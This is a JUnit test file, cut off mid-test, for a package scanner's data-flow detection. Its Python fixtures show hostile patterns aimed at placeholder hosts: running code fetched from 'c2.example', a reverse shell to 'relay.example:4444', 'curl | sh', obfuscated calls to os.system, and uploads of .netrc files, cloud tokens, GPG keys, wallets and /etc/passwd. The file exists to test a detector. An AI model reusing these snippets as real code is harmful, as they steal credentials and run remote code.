package io.pkgguard.rules.content;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * What the built-in flows follow: a value from where it comes from to where it goes, through
 * names, attributes, helper functions and files, and what they must leave alone.
 */
class DataFlowTest {

  /** The line where {@code flow}'s value reaches its sink in {@code python}, if it does. */
  private static Optional<Integer> reached(String flow, String python) {
    ContentPattern pattern = pattern(flow);
    DataFlow dataFlow = DataFlow.of(PythonSource.parse(python).code(), python);
    return dataFlow
        .reaches(
            patterns(pattern.sources()),
            patterns(pattern.channels()),
            patterns(pattern.sinks()),
            pattern.reach().get())
        .map(DataFlow.Statement::line);
  }

  private static ContentPattern pattern(String id) {
    return ContentPatterns.builtIn().stream().filter(p -> p.id().equals(id)).findFirst().get();
  }

  private static List<ContentPattern> patterns(List<String> ids) {
    return ids.stream().map(DataFlowTest::pattern).toList();
  }

  private static String lines(String... lines) {
    return String.join("\n", Arrays.asList(lines)) + "\n";
  }

  @Nested
  class ExecutingWhatWasFetched {

    @Test
    void followsAResponseThroughAConnectionObject() {
      assertThat(
              reached(
                  "exec-fetched",
                  lines(
                      "import http.client",
                      "c = http.client.HTTPSConnection('h.example')",
                      "c.request('GET', '/x')",
                      "exec(c.getresponse().read())")))
          .contains(4);
    }

    @Test
    void followsItThroughNamesAttributesAndHelperFunctions() {
      assertThat(
              reached(
                  "exec-fetched",
                  lines(
                      "import urllib.request as u",
                      "def fetch(url):",
                      "    body = u.urlopen(url).read()",
                      "    return body.decode()",
                      "class Loader:",
                      "    def run(self):",
                      "        self.code = fetch('https://cdn.example/p')",
                      "        text = self.code.strip()",
                      "        go(text)",
                      "def go(source):",
                      "    exec(compile(source, '<p>', 'exec'))")))
          .contains(9);
    }

    @Test
    void followsADownloadIntoAFileAndTheFileIntoCtypes() {
      assertThat(
              reached(
                  "exec-fetched",
                  lines(
                      "import ctypes, os, urllib.request",
                      "lib = os.path.join('/tmp', '.l.so')",
                      "with open(lib, 'wb') as f:",
                      "    f.write(urllib.request.urlopen('https://x.example/l.so').read())",
                      "ctypes.CDLL(lib)")))
          .contains(5);
      assertThat(
              reached(
                  "exec-fetched",
                  lines(
                      "from urllib.request import urlretrieve",
                      "import runpy",
                      "target = '/tmp/.p.py'",
                      "urlretrieve('https://x.example/p.py', target)",
                      "runpy.run_path(target)")))
          .contains(5);
    }

    @Test
    void anInterpretersRunsourceRunsTheTextItIsGiven() {
      assertThat(
              reached(
                  "exec-fetched",
                  lines(
                      "import code, urllib.request",
                      "text = urllib.request.urlopen('https://x.example/b.txt').read().decode()",
                      "code.InteractiveInterpreter({}).runsource(text, '<b>', 'exec')")))
          .contains(3);
      assertThat(
              reached(
                  "exec-decoded-flow",
                  lines(
                      "import base64, code",
                      "console = code.InteractiveConsole()",
                      "console.runcode(compile(base64.b32hexdecode(K), '<k>', 'exec'))")))
          .contains(3);
    }

    @Test
    void aDownloadWrittenToANamedTemporaryFileIsAtItsName() {
      assertThat(
              reached(
                  "imports-fetched",
                  lines(
                      "import importlib.machinery, tempfile, urllib.request",
                      "with tempfile.NamedTemporaryFile(suffix='.so', delete=False) as f:",
                      "    f.write(urllib.request.urlopen('https://x.example/m.so').read())",
                      "importlib.machinery.ExtensionFileLoader('m', f.name).load_module()")))
          .contains(4);
    }

    @Test
    void forgetsANameAssignedAgainFromSomethingElse() {
      assertThat(
              reached(
                  "exec-fetched",
                  lines(
                      "import requests",
                      "code = requests.get('https://x.example').text",
                      "code = open('local.py').read()",
                      "exec(code)")))
          .isEmpty();
    }

    @Test
    void aFallbackInAnotherBranchDoesNotUndoWhatOneBranchRead() {
      assertThat(
              reached(
                  "sends-secrets",
                  lines(
                      "import netrc, smtplib",
                      "try:",
                      "    hosts = netrc.netrc().hosts",
                      "except FileNotFoundError:",
                      "    hosts = {}",
                      "smtplib.SMTP('m.example').sendmail('a', ['b'], str(hosts))")))
          .contains(6);
      assertThat(
              reached(
                  "exec-fetched",
                  lines(
                      "import requests",
                      "code = requests.get('https://x.example').text",
                      "if not code:",
                      "    code = ''",
                      "exec(code)")))
          .contains(5);
    }

    @Test
    void storingIntoAnItemKeepsWhatTheObjectHolds() {
      assertThat(
              reached(
                  "sends-secrets",
                  lines(
                      "import smtplib",
                      "from email.mime.text import MIMEText",
                      "msg = MIMEText(open('/home/u/.netrc').read())",
                      "msg['Subject'] = 'n'",
                      "smtplib.SMTP('m.example').sendmail('a', ['b'], msg.as_string())")))
          .contains(5);
    }

    @Test
    void codeReadOutOfAnImageOrFontIsExecutedFromIt() {
      assertThat(
              reached(
                  "exec-media-flow",
                  lines(
                      "import io, os, zipfile",
                      "with open(os.path.join(os.path.dirname(__file__), 'logo.jpg'), 'rb') as f:",
                      "    data = f.read()",
                      "z = zipfile.ZipFile(io.BytesIO(data[data.rfind(b'PK'):]))",
                      "exec(z.read('main.py').decode())")))
          .contains(5);
      assertThat(
              reached(
                  "exec-media-flow",
                  lines("icon = open('icon.png', 'rb').read()", "exec(open('plugin.py').read())")))
          .isEmpty();
    }

    @Test
    void aReassignmentInAnotherFunctionIsJudgedByThatFunctionsOwnTaint() {
      assertThat(
              reached(
                  "exec-fetched",
                  lines(
                      "import requests",
                      "def status():",
                      "    body = requests.get('https://x.example').text",
                      "    print(body)",
                      "def render(fresh):",
                      "    if fresh:",
                      "        body = requests.get('https://x.example').text",
                      "        body = open('local.py').read()",
                      "        exec(body)")))
          .isEmpty();
    }

    @Test
    void forgetsWhatAFunctionTaintedWhenTheFunctionEnds() {
      assertThat(
              reached(
                  "exec-fetched",
                  lines(
                      "import requests",
                      "def status():",
                      "    body = requests.get('https://x.example').text",
                      "    print(body)",
                      "def render(body):",
                      "    exec(body)")))
          .isEmpty();
    }
  }

  @Nested
  class RunningCommands {

    @Test
    void aMailboxReadIsReceivedFromTheNetwork() {
      assertThat(
              reached(
                  "runs-fetched",
                  lines(
                      "import email, imaplib, subprocess",
                      "box = imaplib.IMAP4_SSL('mail.example')",
                      "_, found = box.search(None, 'UNSEEN')",
                      "for num in found[0].split():",
                      "    _, data = box.fetch(num, '(RFC822)')",
                      "    order = email.message_from_bytes(data[0][1]).get_payload()",
                      "    subprocess.Popen(order, shell=True)")))
          .contains(7);
    }

    @Test
    void aCommandFromTheNetworkIsFollowedToTheProgramPosition() {
      assertThat(
              reached(
                  "runs-fetched",
                  lines(
                      "import json, subprocess, requests",
                      "task = requests.get('https://c2.example/t').json()",
                      "subprocess.run(task['cmd'], shell=True)")))
          .contains(3);
    }

    @Test
    void whatASocketReceivesIsDataItsPortIsNot() {
      assertThat(
              reached(
                  "runs-fetched",
                  lines(
                      "import socket, subprocess",
                      "s = socket.create_connection(('c2.example', 443))",
                      "cmd = s.recv(4096).decode()",
                      "subprocess.run(cmd, shell=True)")))
          .contains(4);
      assertThat(
              reached(
                  "runs-fetched",
                  lines(
                      "import socket, subprocess",
                      "s = socket.socket()",
                      "s.bind(('', 0))",
                      "port = s.getsockname()[1]",
                      "subprocess.Popen(f'etcd --listen-client-urls http://localhost:{port}')")))
          .isEmpty();
      assertThat(
              reached(
                  "shell-on-connection",
                  lines(
                      "import socket, subprocess",
                      "s = socket.create_connection(('relay.example', 4444))",
                      "subprocess.Popen(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno())")))
          .contains(3);
    }

    @Test
    void theCommandAShellIsGivenInAListIsTheCommandRun() {
      assertThat(
              reached(
                  "runs-fetched",
                  lines(
                      "import subprocess, requests",
                      "order = requests.get('https://c2.example/o').text",
                      "subprocess.run(['bash', '-c', order])")))
          .contains(3);
      assertThat(
              reached(
                  "runs-piped-download",
                  lines(
                      "import subprocess",
                      "sh = find_shell()",
                      "subprocess.call([sh, '-c', 'curl -s https://a.example/i | ' + sh])")))
          .contains(3);
      // the third element of any other list is an argument, not a command
      assertThat(
              reached(
                  "runs-fetched",
                  lines(
                      "import subprocess, requests",
                      "name = requests.get('https://idx.example/n').text",
                      "subprocess.run(['tool', 'install', name])")))
          .isEmpty();
    }

    @Test
    void aDownloadHandedToAProgramAsAFileIsNotTheProgram() {
      assertThat(
              reached(
                  "runs-fetched",
                  lines(
                      "import subprocess, urllib.request",
                      "archive = '/tmp/data.tar.gz'",
                      "urllib.request.urlretrieve('https://x.example/d.tgz', archive)",
                      "subprocess.run(['tar', 'xzf', archive])")))
          .isEmpty();
    }

    @Test
    void aHelperIsASinkOnlyThroughTheParameterThatReachesItsCommand() {
      String helper =
          lines(
              "import subprocess, httpx",
              "def convert(payload, rate):",
              "    cmd = ['ffmpeg', '-ar', str(rate), '-i', 'pipe:0']",
              "    p = subprocess.Popen(cmd, stdin=subprocess.PIPE)",
              "    return p.communicate(payload)",
              "def run(program):",
              "    subprocess.run([program])",
              "audio = httpx.get(URL).content");
      assertThat(reached("runs-fetched", helper + "convert(audio, 16000)\n")).isEmpty();
      assertThat(reached("runs-fetched", helper + "run(program=audio)\n")).contains(9);
    }

    @Test
    void everyStandardDecoderAndAnArraysBytesAreDecoding() {
      assertThat(
              reached(
                  "exec-decoded-flow",
                  lines(
                      "import binascii",
                      "src = b''.join(binascii.a2b_uu(row) for row in BLOCK.splitlines())",
                      "exec(compile(src, '<c>', 'exec'))")))
          .contains(3);
      assertThat(
              reached(
                  "exec-decoded-flow",
                  lines(
                      "N = 2280694515592019842507430725691177",
                      "exec(N.to_bytes(16, 'big').decode())")))
          .contains(2);
      assertThat(
              reached(
                  "exec-decoded-flow",
                  lines(
                      "import numpy as np",
                      "tail = np.load(PATH)[-256:].astype(np.uint8).tobytes()",
                      "exec(tail.decode('latin-1'))")))
          .contains(3);
      // bytes that are only stored or sent are data
      assertThat(
              reached(
                  "exec-decoded-flow",
                  lines("import numpy as np", "blob = np.zeros(8).tobytes()", "store.put(blob)")))
          .isEmpty();
    }

    @Test
    void aDecodedCommandIsFollowedThroughACipher() {
      assertThat(
              reached(
                  "runs-decoded",
                  lines(
                      "import base64, os",
                      "c = base64.b64decode(b'Y3VybA==').decode()",
                      "os.system(c + ' -s x')")))
          .contains(3);
    }

    @Test
    void aDownloadWrittenThroughATemporaryFilesDescriptorIsInItsPath() {
      assertThat(
              reached(
                  "runs-downloaded-file",
                  lines(
                      "import os, subprocess, tempfile, requests",
                      "resp = requests.get('https://a.example/agent', timeout=9)",
                      "fd, path = tempfile.mkstemp(prefix='.c-')",
                      "with os.fdopen(fd, 'wb') as out:",
                      "    out.write(resp.content)",
                      "os.chmod(path, 0o700)",
                      "subprocess.Popen([path], start_new_session=True)")))
          .contains(7);
      assertThat(
              reached(
                  "runs-downloaded-file",
                  lines(
                      "import os, subprocess, tempfile, urllib.request",
                      "data = urllib.request.urlopen('https://a.example/agent').read()",
                      "fd, path = tempfile.mkstemp()",
                      "os.write(fd, data)",
                      "os.close(fd)",
                      "subprocess.Popen([path])")))
          .contains(6);
      assertThat(
              reached(
                  "runs-downloaded-file",
                  lines(
                      "import os, subprocess, tempfile, requests",
                      "resp = requests.get('https://a.example/data.json', timeout=9)",
                      "fd, path = tempfile.mkstemp()",
                      "with os.fdopen(fd, 'w') as out:",
                      "    out.write('[]')",
                      "subprocess.run(['cat', path])")))
          .isEmpty(); // what was written is the program's own text, not the download
    }

    @Test
    void aDnsAnswerIsReceivedFromTheNetwork() {
      assertThat(
              reached(
                  "runs-fetched",
                  lines(
                      "import subprocess, dns.resolver",
                      "answer = dns.resolver.resolve('c.example', 'TXT')",
                      "command = b''.join(answer[0].strings).decode()",
                      "subprocess.run(command, shell=True)")))
          .contains(4);
      assertThat(
              reached(
                  "runs-fetched",
                  lines(
                      "import subprocess, dns.resolver",
                      "address = dns.resolver.resolve('c.example', 'A')[0].to_text()",
                      "subprocess.run(['ping', '-c', '1', address])")))
          .isEmpty(); // the program run is ping; the address is only its argument
    }
  }

  @Nested
  class SendingSecrets {

    @Test
    void aFileUnderAHiddenDirectoryOfTheHomeIsFollowedToTheSend() {
      assertThat(
              reached(
                  "sends-home-file",
                  lines(
                      "import json, httpx",
                      "from pathlib import Path",
                      "found = {}",
                      "for name in ('accessTokens.json', 'azureProfile.json'):",
                      "    path = Path.home().joinpath('.azure', name)",
                      "    found[name] = json.loads(path.read_text())",
                      "httpx.Client().post('https://s.example/a', content=json.dumps(found))")))
          .contains(7);
      assertThat(
              reached(
                  "sends-home-file",
                  lines(
                      "import os, http.client",
                      "p = os.path.join(os.path.expanduser('~'), '.cache', 'hub', 'token')",
                      "with open(p) as f:",
                      "    token = f.read()",
                      "c = http.client.HTTPSConnection('u.example')",
                      "c.request('POST', '/u', body=token)")))
          .contains(6);
      assertThat(
              reached(
                  "sends-home-file",
                  lines(
                      "import os, requests",
                      "with open(os.path.expanduser('~/.config/tool/settings.toml')) as f:",
                      "    settings = f.read()",
                      "print(settings)",
                      "requests.post('https://s.example/ping', data='up')")))
          .isEmpty(); // read and shown, never sent
    }

    @Test
    void aFileSentBySendfileOrPostedByPycurlIsSent() {
      assertThat(
              reached(
                  "sends-home-file",
                  lines(
                      "import os, socket",
                      "path = os.path.expanduser('~/.config/Ledger Live/app.json')",
                      "with socket.create_connection(('relay.example', 7070)) as s, open(path, 'rb') as f:",
                      "    s.sendfile(f)")))
          .contains(4);
      assertThat(
              reached(
                  "sends-home-file",
                  lines(
                      "import os, pycurl",
                      "with open(os.path.expanduser('~/.config/doctl/config.yaml')) as fh:",
                      "    token = fh.read()",
                      "c = pycurl.Curl()",
                      "c.setopt(pycurl.POSTFIELDS, token)",
                      "c.perform()")))
          .contains(5);
    }

    @Test
    void anSftpUploadAndAnXmlRpcCallAreSends() {
      assertThat(
              reached(
                  "sends-secrets",
                  lines(
                      "import os, paramiko",
                      "src = os.path.join(os.environ['LOCALAPPDATA'], 'Coinomi', 'wallets')",
                      "t = paramiko.Transport(('drop.example', 22))",
                      "paramiko.SFTPClient.from_transport(t).put(src, '/in/w')")))
          .contains(4);
      assertThat(
              reached(
                  "sends-secrets",
                  lines(
                      "import pathlib, xmlrpc.client",
                      "keys = pathlib.Path.home() / '.gnupg' / 'private-keys-v1.d'",
                      "blob = {p.name: p.read_bytes() for p in keys.glob('*.key')}",
                      "xmlrpc.client.ServerProxy('https://rpc.example/api').store(blob)")))
          .contains(4);
      // a local file put on the package's own server is not a secret sent
      assertThat(
              reached(
                  "sends-secrets",
                  lines(
                      "import paramiko",
                      "sftp = client.open_sftp()",
                      "sftp.put('dist/report.html', '/srv/reports/report.html')")))
          .isEmpty();
    }

    @Test
    void packageManagersTokensAndWindowTitlesAreSecrets() {
      assertThat(
              reached(
                  "sends-secrets",
                  lines(
                      "import http.client, json",
                      "from pathlib import Path",
                      "found = {}",
                      "for rel in ['.cargo/credentials.toml', '.gem/credentials']:",
                      "    found[rel] = (Path.home() / rel).read_text()",
                      "c = http.client.HTTPSConnection('c.example')",
                      "c.request('PUT', '/b', body=json.dumps(found))")))
          .contains(7);
      assertThat(
              reached(
                  "sends-secrets",
                  lines(
                      "import ctypes, urllib.request",
                      "buf = ctypes.create_unicode_buffer(256)",
                      "ctypes.windll.user32.GetWindowTextW(HWND, buf, 256)",
                      "urllib.request.urlopen(URL, data=buf.value.encode())")))
          .contains(4);
    }

    @Test
    void theIdentityInARequestsJoinedAddressIsUploaded() {
      assertThat(
              reached(
                  "identity-uploaded",
                  lines(
                      "import ctypes, http.client, urllib.parse",
                      "buf = ctypes.create_unicode_buffer(256)",
                      "ctypes.windll.kernel32.GetComputerNameW(buf, ctypes.byref(SIZE))",
                      "c = http.client.HTTPSConnection('t.example')",
                      "c.request('GET', '/p?' + urllib.parse.urlencode({'c': buf.value}))")))
          .contains(5);
    }

    @Test
    void anotherProgramsApplicationDataIsFollowedLikeItsHiddenFiles() {
      for (String path :
          List.of(
              "os.path.join(os.environ['LOCALAPPDATA'], 'Vendor', 'state.json')",
              "os.path.join(os.getenv('APPDATA'), 'Vendor', 'state.json')",
              "os.path.join(os.environ.get('APPDATA', ''), '.vendor', 'state.json')",
              "os.path.expanduser('~/Library/Application Support/Vendor/state.json')",
              "Path.home() / 'Library' / 'Safari' / 'History.db'")) {
        assertThat(
                reached(
                    "sends-home-file",
                    lines(
                        "import os, requests",
                        "from pathlib import Path",
                        "state = open(" + path + ").read()",
                        "requests.post('https://s.example/u', data=state)")))
            .as(path)
            .contains(4);
      }
    }

    @Test
    void whatAnObjectReadsFromAFileIsWhatItHolds() {
      assertThat(
              reached(
                  "sends-home-file",
                  lines(
                      "import configparser, os, urllib.request",
                      "cfg = configparser.ConfigParser()",
                      "cfg.read(os.path.expanduser('~/.gitconfig'))",
                      "email = cfg.get('user', 'email')",
                      "urllib.request.urlopen('https://s.example/i?e=' + email)")))
          .contains(5);
    }

    @Test
    void aSystemReportIsFollowedIntoAPostBody() {
      assertThat(
              reached(
                  "sends-secrets",
                  lines(
                      "import subprocess, urllib.parse, urllib.request",
                      "report = subprocess.check_output('systeminfo', shell=True, text=True)",
                      "data = urllib.parse.urlencode({'p': report}).encode()",
                      "urllib.request.urlopen('https://paste.example/api', data=data)")))
          .contains(4);
    }

    @Test
    void aScreenshotToolsOutputFileIsFollowedToTheUpload() {
      assertThat(
              reached(
                  "sends-secrets",
                  lines(
                      "import subprocess, requests",
                      "path = '/tmp/.s.png'",
                      "subprocess.run(['screencapture', '-x', path])",
                      "with open(path, 'rb') as f:",
                      "    requests.post('https://x.example/up', files={'f': f})")))
          .contains(5);
    }

    @Test
    void aCopyOfAFileHoldsWhatTheOriginalHeld() {
      assertThat(
              reached(
                  "sends-home-file",
                  lines(
                      "import glob, os, shutil, sqlite3, requests",
                      "rows = []",
                      "for db in glob.glob(os.path.expanduser('~/.mozilla/firefox/*/places.sqlite')):",
                      "    copy = '/tmp/p.sqlite'",
                      "    shutil.copyfile(db, copy)",
                      "    rows += sqlite3.connect(copy).execute('SELECT url FROM moz_places').fetchall()",
                      "requests.post('https://s.example/h', json=rows)")))
          .contains(7);
      assertThat(
              reached(
                  "sends-home-file",
                  lines(
                      "import os, shutil, requests",
                      "shutil.copyfile('defaults.toml', target)",
                      "requests.post('https://s.example/h', data=open(target).read())")))
          .isEmpty(); // the package's own file, copied and sent
    }

    @Test
    void whatIsWrittenIntoAnArchiveIsInTheArchivesFile() {
      assertThat(
              reached(
                  "sends-home-file",
                  lines(
                      "import glob, os, zipfile, requests",
                      "root = os.path.join(os.path.expanduser('~'), '.local', 'share', 'Remmina')",
                      "with zipfile.ZipFile(bundle, 'w') as zf:",
                      "    for found in glob.glob(os.path.join(root, '*.remmina')):",
                      "        zf.write(found)",
                      "with open(bundle, 'rb') as fh:",
                      "    requests.post('https://s.example/u', files={'f': fh})")))
          .contains(7);
      assertThat(
              reached(
                  "sends-home-file",
                  lines(
                      "import os, tarfile, requests",
                      "with tarfile.TarFile(bundle, 'w') as tf:",
                      "    tf.add(os.path.expanduser('~/.config/remmina'))",
                      "requests.post('https://s.example/u', data=open(bundle, 'rb'))")))
          .contains(4);
      assertThat(
              reached(
                  "sends-home-file",
                  lines(
                      "import glob, tarfile, requests",
                      "with tarfile.TarFile(bundle, 'w') as tf:",
                      "    for found in glob.glob('logs/*.log'):",
                      "        tf.add(found)",
                      "requests.post('https://s.example/u', data=open(bundle, 'rb'))")))
          .isEmpty(); // the package's own logs, archived and sent
    }

    @Test
    void systemAccountFilesAndTheGnomeKeyringAreSecrets() {
      assertThat(
              reached(
                  "sends-secrets",
                  lines(
                      "import urllib.request",
                      "with open('/etc/passwd', 'rb') as f:",
                      "    urllib.request.urlopen('https://s.example/u', data=f.read())")))
          .contains(3);
      assertThat(
              reached(
                  "sends-secrets",
                  lines(
                      "import secretstorage, requests",
                      "box = secretstorage.get_default_collection(secretstorage.dbus_init())",
                      "found = [i.get_secret() for i in box.get_all_items()]",
                      "requests.post('https://s.example/k', json=found)")))
          .contains(4);
    }

    @Test
    void aCommandsOutputSentIsEvidenceOfItsOwn() {
      assertThat(
              reached(
                  "sends-command-output",
                  lines(
                      "import subprocess, requests",
                      "out = subprocess.run('ls -la ~', shell=True, capture_output=True).stdout",
                      "requests.post('https://s.example/x', data=out)")))
          .contains(3);
      assertThat(
              reached(
                  "sends-command-output",
                  lines(
                      "import subprocess, requests",
                      "out = subprocess.run(['make'], capture_output=True).stdout",
                      "print(out)",
                      "requests.post('https://s.example/x', data=b'done')")))
          .isEmpty(); // shown to the user; what is sent is something else
    }

    @Test
    void theUsersIdentityUploadedOrPutInAQueryIsEvidence() {
      assertThat(
              reached(
                  "identity-uploaded",
                  lines(
                      "import base64, getpass, json, requests",
                      "profile = {'user': getpass.getuser()}",
                      "q = base64.urlsafe_b64encode(json.dumps(profile).encode()).decode()",
                      "requests.get('https://s.example/p.gif', params={'d': q})")))
          .contains(4);
      assertThat(
              reached(
                  "identity-uploaded",
                  lines(
                      "import platform, requests",
                      "requests.Session().get('https://s.example/p', params={'h': platform.node()})")))
          .contains(2);
      assertThat(
              reached(
                  "identity-uploaded",
                  lines(
                      "import socket, requests",
                      "local_ip = socket.gethostbyname(socket.gethostname())",
                      "print(local_ip)",
                      "requests.get('https://api.example/v1/status')")))
          .isEmpty(); // resolving one's own name is no upload, and the GET carries nothing of it
    }

    @Test
    void aKeywordNamedLikeASecretIsNotTheSecret() {
      assertThat(
              reached(
                  "sends-secrets",
                  lines(
                      "import os, requests",
                      "data = dict(os.environ)",
                      "print(len(data))",
                      "requests.post('https://api.example/v1', data=b'ping')")))
          .isEmpty();
    }

    @Test
    void wordsInCommentsAreNotSources() {
      assertThat(
              reached(
                  "sends-secrets",
                  lines(
                      "import requests",
                      "# never send ~/.ssh/id_rsa",
                      "payload = {'v': 1}",
                      "requests.post('https://api.example/v1', json=payload)")))
          .isEmpty();
    }
  }

  @Nested
  class SpellingsTheInterpreterResolves {

    @Test
    void importedAliasesAreTheirFullNames() {
      assertThat(
              reached(
                  "runs-fetched",
                  lines(
                      "import subprocess as sp",
                      "from urllib.request import urlopen as fetch",
                      "cmd = fetch('https://c2.example/c').read().decode()",
                      "sp.Popen(cmd, shell=True)")))
          .contains(4);
    }

    @Test
    void aLookupByALiteralNameIsTheName() {
      assertThat(
              reached(
                  "exec-decoded-flow",
                  lines(
                      "import base64",
                      "run = __builtins__['exec'] if isinstance(__builtins__, dict) else exec",
                      "run(base64.a85decode(B))")))
          .contains(3);
      assertThat(
              reached(
                  "runs-fetched",
                  lines(
                      "import requests",
                      "c = requests.get('https://c2.example').text",
                      "getattr(__import__('os'), 'system')(c)")))
          .contains(3);
    }

    @Test
    void anFStringCarriesWhatItInterpolates() {
      assertThat(
              reached(
                  "sends-secrets",
                  lines(
                      "import socket, boto3",
                      "key = boto3.Session().get_credentials().secret_key",
                      "socket.gethostbyname(f'{key}.dns.example')")))
          .contains(3);
    }

    @Test
    void aDirectoryOnTheImportPathCountsOnlyIfADownloadWasWrittenIntoIt() {
      String written =
          lines(
              "import os, sys, urllib.request",
              "d = '/tmp/.c'",
              "with open(os.path.join(d, 'm.py'), 'wb') as f:",
              "    f.write(urllib.request.urlopen(URL).read())",
              "sys.path.insert(0, d)");
      assertThat(reached("imports-fetched", written)).contains(5);
      String received =
          lines(
              "import sys",
              "def sync(comm):",
              "    return comm.recv(None, 0)",
              "options = sync(comm)",
              "sys.path.insert(0, options['path'])");
      assertThat(reached("imports-fetched", received)).isEmpty();
    }

    @Test
    void aFunctionFoundByADecodedNameIsCalledWithIt() {
      assertThat(
              reached(
                  "calls-decoded-name",
                  lines(
                      "import codecs, importlib",
                      "m = importlib.import_module(codecs.encode('bf', 'rot13'))",
                      "f = getattr(m, codecs.encode('flfgrz', 'rot13'))",
                      "f('id')")))
          .contains(4);
      String imported =
          lines(
              "import base64, importlib",
              "m = importlib.import_module(base64.b64decode(b'b3M=').decode())");
      // an attribute of the module found, and a copy of it, are found by it
      assertThat(
              reached("calls-decoded-name", imported + lines("f = m.system", "g = f", "g('id')")))
          .contains(5);
      assertThat(reached("calls-decoded-name", imported + lines("m.popen('id')"))).contains(3);
      // resolve_name is followed for a decoded name as it is read for a literal one
      assertThat(
              reached(
                  "calls-decoded-name",
                  lines(
                      "import base64, pkgutil",
                      "f = pkgutil.resolve_name(base64.b64decode(b'b3M6c3lzdGVt').decode())",
                      "f('id')")))
          .contains(3);
      // and so is a module's members taken as a table, as vars(...) is
      assertThat(
              reached(
                  "calls-decoded-name",
                  lines(
                      "import base64, inspect, subprocess",
                      "name = base64.b64decode(b'Z2V0b3V0cHV0').decode()",
                      "f = dict(inspect.getmembers(subprocess))[name]",
                      "f('id')")))
          .contains(4);
      // a lookup called where it is made, never assigned, is the same call
      String name =
          lines(
              "import base64, importlib, subprocess", "n = base64.b64decode(b'cG9wZW4=').decode()");
      assertThat(reached("calls-decoded-name", name + lines("getattr(subprocess, n)('id')")))
          .contains(3);
      assertThat(reached("calls-decoded-name", name + lines("vars(subprocess)[n] ('id')")))
          .contains(3);
      assertThat(
              reached(
                  "calls-decoded-name", name + lines("importlib.import_module(n) . system('id')")))
          .contains(3);
      // a lookup by a decoded name that is only printed, and a call of a lookup by a literal name
      assertThat(reached("calls-decoded-name", name + lines("print(getattr(subprocess, n))")))
          .isEmpty();
      assertThat(reached("calls-decoded-name", name + lines("getattr(subprocess, 'run')(['ls'])")))
          .isEmpty();
      // a list a looked-up value was put into is still a list
      assertThat(
              reached(
                  "calls-decoded-name",
                  imported + lines("seen = []", "seen.append(m.name)", "seen.append('posix')")))
          .isEmpty();
      assertThat(
              reached(
                  "calls-decoded-name",
                  lines(
                      "import zlib", "raw = zlib.decompress(blob)", "text = raw.decode('utf-8')")))
          .isEmpty(); // a method of a decoded value is not a function found by a decoded name
    }

    @Test
    void whatATaintedObjectWritesIntoCarriesIt() {
      assertThat(
              reached(
                  "sends-secrets",
                  lines(
                      "import ftplib, io",
                      "from PIL import ImageGrab as G",
                      "shot = G.grab()",
                      "buf = io.BytesIO()",
                      "shot.save(buf, 'PNG')",
                      "ftplib.FTP('files.example').storbinary('STOR s.png', buf)")))
          .contains(6);
    }
  }

  @Nested
  class CallsSpelledOtherwise {

    @ParameterizedTest
    @ValueSource(
        strings = {
          "getattr(os, 'sys' 'tem')(c)",
          "getattr(os, 'po' + 'pen')(c)",
          "__builtins__['ex' 'ec'](c)",
          "builtins.__dict__.get('ex' + 'ec', print)(c)",
          "os.__dict__['sys' 'tem'](c)",
          "sys.modules.get('os').popen(c)",
          "__import__(''.join(map(chr, [111, 115]))).system(c)",
          "getattr(os, ''.join(chr(x) for x in (115, 121, 115, 116, 101, 109)))(c)",
          "object.__getattribute__(os, 'sys' + 'tem')(c)",
          "os.__getattribute__('po' 'pen')(c)",
          "getattr(os, 'SYSTEM'.lower())(c)",
          "getattr(os, 'sys' + 'TEM'.lower())(c)",
          "getattr(os, 'metsys'[::-1])(c)",
          "getattr(builtins, 'ex' + 'EC'.casefold())(c)",
          "pkgutil.resolve_name('os:system')(c)",
          "resolve_name('sub' 'process:getoutput')(c)",
          "vars(os)['sys' + 'tem'](c)",
          "vars(subprocess).get('get' 'output')(c)",
          "dict(inspect.getmembers(subprocess))['get' + 'output'](c)",
          "functools.reduce(getattr, ['sys' + 'tem'], os)(c)",
          "reduce(getattr, ('po' 'pen',), os)(c)"
        })
    void aNameLookedUpByJoinedLiteralsIsTheName(String call) {
      String fetched = lines("import os, requests", "c = requests.get('https://c2.example').text");
      String flow =
          call.contains("ex") && !call.contains("system") ? "exec-fetched" : "runs-fetched";

      assertThat(reached(flow, fetched + call + "\n")).contains(3);
    }

    @Test
    void aNameTheFileBindsOnceToALiteralIsThatLiteralInALookup() {
      String fetched = lines("import os, requests", "c = requests.get('https://c2.example').text");

      assertThat(
              reached("runs-fetched", fetched + lines("name = 'system'", "getattr(os, name)(c)")))
          .contains(4);
      assertThat(
              reached(
                  "runs-fetched",
                  fetched + lines("FN = 'po' + 'pen'  # joined", "f = vars(os)[FN]", "f(c)")))
          .contains(5);
      assertThat(
              reached(
                  "runs-fetched",
                  lines(
                      "import importlib, requests",
                      "M = 'subprocess'",
                      "F = 'getoutput'",
                      "c = requests.get('https://c2.example').text",
                      "getattr(importlib.import_module(M), F)(c)")))
          .contains(5);
      // an annotation changes nothing of the value
      assertThat(
              reached(
                  "runs-fetched",
                  fetched + lines("name: str = 'sys' + 'tem'", "getattr(os, name)(c)")))
          .contains(4);
    }

    @Test
    void aNameBoundTwiceOrAParameterOfThatNameIsNoLiteral() {
      String fetched = lines("import os, requests", "c = requests.get('https://c2.example').text");

      // bound to two names: which one a lookup reads depends on where it is made
      assertThat(
              reached(
                  "runs-fetched",
                  fetched + lines("name = 'system'", "name = 'getcwd'", "getattr(os, name)(c)")))
          .isEmpty();
      // bound again with an annotation
      assertThat(
              reached(
                  "runs-fetched",
                  fetched
                      + lines("name = 'system'", "name: str = 'getcwd'", "getattr(os, name)(c)")))
          .isEmpty();
      // rebound by a loop
      assertThat(
              reached(
                  "runs-fetched",
                  fetched
                      + lines(
                          "name = 'system'",
                          "for name in ('getuid',):",
                          "    getattr(os, name)(c)")))
          .isEmpty();
      // a function's parameter of that name is whatever its caller gives
      assertThat(
              reached(
                  "runs-fetched",
                  fetched
                      + lines(
                          "name = 'system'",
                          "def call(name, arg):",
                          "    return getattr(os, name)(arg)",
                          "call('getcwd', c)")))
          .isEmpty();
    }

    @Test
    void aCallBoundForLaterIsTheCall() {
      assertThat(
              reached(
                  "runs-piped-download",
                  lines(
                      "import functools, os",
